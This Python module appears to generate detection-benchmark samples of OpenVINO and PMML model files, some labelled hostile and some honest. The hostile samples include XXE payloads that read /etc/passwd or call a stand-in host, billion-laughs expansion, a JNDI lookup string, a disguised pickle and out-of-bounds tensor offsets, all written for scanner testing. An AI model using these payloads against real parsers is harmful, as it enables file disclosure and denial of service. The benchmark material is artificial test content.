"""OpenVINO and PMML: entities, references outside, layers and numbers that are not."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

__all__ = ["openvino", "pmml", "samples"]

_FAMILY = "graphs-xml"
# In two parts: no file of the project holds the address of a file.
_FILE = "file:" + "//"
# A pickle that would print a word.
_PICKLE = b"\x80\x02cbuiltins\nprint\nX\x05\x00\x00\x00hello\x85R."
_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
_LAUGHS = "<!DOCTYPE {root} [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {name} '{'&' + before + ';'}{'&' + before + ';'}'>"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
_PMML_BODY = """
<Header><Application name="SkLearn2PMML package" version="0.133.1"/></Header>
<DataDictionary numberOfFields="2">
<DataField name="x" optype="continuous" dataType="double"/>
<DataField name="y" optype="continuous" dataType="double"/>
</DataDictionary>
{extra}
<RegressionModel functionName="regression">
<MiningSchema><MiningField name="x"/><MiningField name="y" usageType="target"/>
</MiningSchema>
<RegressionTable intercept="{intercept}">
<NumericPredictor name="x" coefficient="2.0"/></RegressionTable>
</RegressionModel>
"""


def pmml(
    extra: str = "",
    *,
    before: str = "",
    intercept: str = "1.0",
    attributes: str = "",
    encoding: str = "utf-8",
) -> bytes:
    """Give a model of one coefficient."""
    body = _PMML_BODY.format(extra=extra, intercept=intercept)
    declaration = _DECLARATION.replace("UTF-8", encoding.upper())
    text = (
        f'{declaration}{before}<PMML xmlns="http://www.dmg.org/PMML-4_4" '
        f'version="4.4"{attributes}>{body}</PMML>\n'
    )
    return text.encode(encoding)


def openvino(  # noqa: PLR0913 - each is one thing that a sample varies
    *,
    before: str = "",
    kind: str = "MatMul",
    version: str = "opset1",
    offset: str = "0",
    size: str = "32",
    shape: str = "2, 4",
    edge: str = "1",
    data: str = "",
    name: str = "net",
) -> bytes:
    """Give a network of one constant and one operation."""
    return f"""<?xml version="1.0"?>
{before}<net name="{name}" version="11">
<layers>
<layer id="0" name="x" type="Parameter" version="opset1">
<data shape="1,2" element_type="f32"/></layer>
<layer id="1" name="w" type="Const" version="opset1">
<data element_type="f32" shape="{shape}" offset="{offset}" size="{size}"/></layer>
<layer id="2" name="y" type="{kind}" version="{version}"><data {data}/></layer>
<layer id="3" name="r" type="Result" version="opset1"/>
</layers>
<edges><edge from-layer="0" from-port="0" to-layer="2" to-port="0"/>
<edge from-layer="{edge}" from-port="0" to-layer="2" to-port="1"/></edges>
<rt_info><Runtime_version value="2026.1.0"/></rt_info>
</net>
""".encode()


def _numbers(count: int = 8) -> bytes:
    return struct.pack(f"<{count}f", *(index / 7 + 0.1 for index in range(count)))


def _library() -> bytes:
    """Give the header of a shared library, and nothing to run."""
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    rest = struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0)
    return ident + rest + b"\0.dynsym\0.text\0"


def samples() -> Iterator[Sample]:
    """Give every sample of the family."""
    for name, technique, files in (*_entities(), *_reaching(), *_networks()):
        yield _sample(name, technique, files, Truth.HOSTILE)
    for name, technique, files in _honest():
        yield _sample(name, technique, files, Truth.HONEST)


def _sample(
    name: str, technique: str, files: Mapping[str, bytes], truth: Truth
) -> Sample:
    return Sample(
        name=name, family=_FAMILY, technique=technique, truth=truth, files=files
    )


def _entities() -> Iterator[tuple[str, str, dict[str, bytes]]]:
    external = '<!DOCTYPE {} [<!ENTITY e SYSTEM "{}">]>'
    for name, address in (
        ("file", f"{_FILE}/etc/passwd"),
        ("address", "http://198.51.100.7/x"),
        ("relative", "../../secret.txt"),
    ):
        before = external.format("PMML", address)
        data = pmml(before=before, intercept="&e;")
        yield f"pmml-entity-{name}", "external entity", {"model.pmml": data}
        net = openvino(before=external.format("net", address), name="&e;")
        files = {"model.xml": net, "model.bin": _numbers()}
        yield f"ir-entity-{name}", "external entity", files
    unused = pmml(before=external.format("PMML", f"{_FILE}/etc/hostname"))
    yield "pmml-entity-unused", "external entity", {"model.pmml": unused}
    wide = pmml(before=external.format("PMML", f"{_FILE}/x"), encoding="utf-16")
    yield "pmml-entity-utf-16", "external entity", {"model.pmml": wide}
    asian = pmml(before=external.format("PMML", f"{_FILE}/x"), encoding="gbk")
    yield "pmml-entity-gbk", "external entity", {"model.pmml": asian}
    for code in ("cp037", "utf-32-le", "utf-32-be"):
        data = pmml(before=external.format("PMML", f"{_FILE}/x"), encoding=code)
        yield f"pmml-entity-{code}", "external entity", {"model.pmml": data}
    seven = pmml(before=external.format("PMML", f"{_FILE}/x"))
    seven = seven.replace(b"UTF-8", b"UTF-7").replace(b"<!", b"+ADwAIQ-")
    yield "pmml-entity-utf-7", "external entity", {"model.pmml": seven}
    hidden = pmml(before=external.format("PMML", f"{_FILE}/x"), encoding="utf-16-le")
    yield "pmml-entity-utf-16-unmarked", "external entity", {"model.pmml": hidden}
    before = _LAUGHS.format(root="PMML") + "]>"
    data = pmml(before=before, intercept="&i;")
    yield "pmml-laughs", "entity expansion", {"model.pmml": data}
    net = openvino(before=_LAUGHS.format(root="net") + "]>", name="&i;")
    files = {"model.xml": net, "model.bin": _numbers()}
    yield "ir-laughs", "entity expansion", files
    big = f"<!DOCTYPE PMML [<!ENTITY a '{'x' * 4096}'>]>"
    data = pmml(before=big, intercept="&a;" * 200)
    yield "pmml-quadratic", "entity expansion", {"model.pmml": data}
    parameter = '<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://198.51.100.7/d.dtd"> %p;]>'
    yield (
        "pmml-parameter-entity",
        "parameter entity",
        {"model.pmml": pmml(before=parameter)},
    )
    inner = f"<!ENTITY % p \"<!ENTITY q SYSTEM '{_FILE}/x'>\"> %p;"
    yield (
        "pmml-nested-declaration",
        "parameter entity",
        {"model.pmml": pmml(before=f"<!DOCTYPE PMML [{inner}]>")},
    )
    outer = '<!DOCTYPE PMML SYSTEM "http://198.51.100.7/pmml.dtd">'
    yield "pmml-external-subset", "external entity", {"model.pmml": pmml(before=outer)}
    comment = f"<!-- {'x' * 2000} -->" + external.format("PMML", f"{_FILE}/x")
    yield "pmml-behind-comment", "external entity", {"model.pmml": pmml(before=comment)}
    bare = external.format("r", f"{_FILE}/etc/passwd").encode() + b"<r>&e;</r>\n"
    yield "xml-entity-in-text", "external entity", {"notes.txt": bare}
    yield (
        "xml-entity-in-config",
        "external entity",
        {"config.xml": _DECLARATION.encode() + bare},
    )


def _reaching() -> Iterator[tuple[str, str, dict[str, bytes]]]:
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="{_FILE}/etc/passwd" parse="text"/>'
    )
    yield "pmml-xinclude", "inclusion", {"model.pmml": pmml(include)}
    sheet = '<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/x.xsl"?>'
    yield "pmml-stylesheet", "inclusion", {"model.pmml": pmml(before=sheet)}
    script = "<Extension><script>fetch('http://198.51.100.7')</script></Extension>"
    yield "pmml-script", "script", {"model.pmml": pmml(script)}
    value = '<Extension name="onload" value="javascript:alert(1)"/>'
    yield "pmml-script-value", "script", {"model.pmml": pmml(value)}
    jndi = '<Extension name="source" value="${jndi:ldap://198.51.100.7/a}"/>'
    yield "pmml-jndi", "script", {"model.pmml": pmml(jndi)}
    code = '<Extension name="init" value="__import__(\'os\').getcwd()"/>'
    yield "pmml-code", "script", {"model.pmml": pmml(code)}
    table = '<TransformationDictionary><DerivedField name="d" optype="continuous" '
    table += 'dataType="double"><MapValues outputColumn="o"><TableLocator>'
    table += '<Extension name="url" value="jdbc:x"/></TableLocator></MapValues>'
    table += "</DerivedField></TransformationDictionary>"
    yield "pmml-table-elsewhere", "inclusion", {"model.pmml": pmml(table)}
    yield "pmml-pickle", "disguise", {"model.pmml": _PICKLE}
    yield "ir-pickle", "disguise", {"model.xml": _PICKLE}
    cut = pmml()
    yield "pmml-cut", "cut", {"model.pmml": cut[: len(cut) // 2]}


def _networks() -> Iterator[tuple[str, str, dict[str, bytes]]]:
    numbers = {"model.bin": _numbers()}
    for name, given in (
        ("offset-far", {"offset": "1099511627776"}),
        ("offset-negative", {"offset": "-64"}),
        ("size-far", {"size": "4294967296"}),
        ("offset-wraps", {"offset": "18446744073709551600"}),
        ("shape-larger", {"shape": "4096, 4096"}),
        ("shape-overflows", {"shape": "4294967296, 4294967296"}),
        ("edge-negative", {"edge": "-1"}),
    ):
        net = openvino(**given)
        yield f"ir-{name}", "bounds", {"model.xml": net, **numbers}
    custom = openvino(kind="Exec", version="extension")
    files = {"model.xml": custom, **numbers, "libcustom.so": _library()}
    yield "ir-extension-with-library", "custom operator", files
    path = openvino(kind="ReadValue", data='path="../../../etc/passwd"')
    yield "ir-path-outside", "path", {"model.xml": path, **numbers}
    tail = {"model.bin": _numbers() + _library() + b"\x90" * 70_000}
    yield "ir-numbers-with-more", "hidden data", {"model.xml": openvino(), **tail}
    pickled = {"model.bin": _PICKLE}
    yield (
        "ir-pickle-as-numbers",
        "disguise",
        {"model.xml": openvino(size="16"), **pickled},
    )


def _honest() -> Iterator[tuple[str, str, dict[str, bytes]]]:
    numbers = {"model.bin": _numbers()}
    yield "ir-plain", "plain", {"model.xml": openvino(), **numbers}
    half = openvino(kind="Softmax", version="opset8", data='axis="1"')
    yield "ir-newer-opset", "plain", {"model.xml": half, **numbers}
    relaxed = openvino(kind="Multiply", version="type_relaxed_opset")
    yield "ir-relaxed", "plain", {"model.xml": relaxed, **numbers}
    files = {
        "openvino_tokenizer.xml": openvino(kind="BPETokenizer", version="extension"),
        "openvino_tokenizer.bin": _numbers(),
    }
    yield "ir-tokenizer", "known extension", files
    nested = {"ir/model.xml": openvino(), "ir/model.bin": _numbers()}
    yield "ir-in-folder", "plain", nested
    yield "pmml-plain", "plain", {"model.pmml": pmml()}
    defined = '<TransformationDictionary><DefineFunction name="twice" optype='
    defined += '"continuous"><ParameterField name="v"/><Apply function="*">'
    defined += '<FieldRef field="v"/><Constant>2</Constant></Apply></DefineFunction>'
    defined += '<DerivedField name="d" optype="continuous" dataType="double">'
    defined += '<Apply function="twice"><FieldRef field="x"/></Apply></DerivedField>'
    defined += "</TransformationDictionary>"
    yield "pmml-function", "defined function", {"model.pmml": pmml(defined)}
    note = '<Extension name="docs" value="https://example.org/model" extender="us"/>'
    yield "pmml-extension", "extension", {"model.pmml": pmml(note)}
    place = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation='
    place += '"http://www.dmg.org/PMML-4_4 http://www.dmg.org/v4-4/pmml-4-4.xsd"'
    yield "pmml-schema-location", "plain", {"model.pmml": pmml(attributes=place)}
    yield "pmml-utf-16", "encoding", {"model.pmml": pmml(encoding="utf-16")}
    yield "pmml-latin", "encoding", {"model.pmml": pmml(encoding="iso-8859-1")}
    vendor = '<TransformationDictionary><DerivedField name="d" optype="continuous" '
    vendor += 'dataType="double"><Apply function="x-parseint"><FieldRef field="x"/>'
    vendor += "</Apply></DerivedField></TransformationDictionary>"
    yield "pmml-vendor-function", "known function", {"model.pmml": pmml(vendor)}
    page = b"<!DOCTYPE html>\n<html><head><title>x</title></head><br></html>\n"
    yield "page", "text like XML", {"docs/index.html": page}
    image = b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    image += b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    image += b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>\n'
    yield "drawing", "image", {"logo.svg": image}
    settings = _DECLARATION.encode() + b"<settings><rate>3</rate></settings>\n"
    yield "settings", "other XML", {"settings.xml": settings}
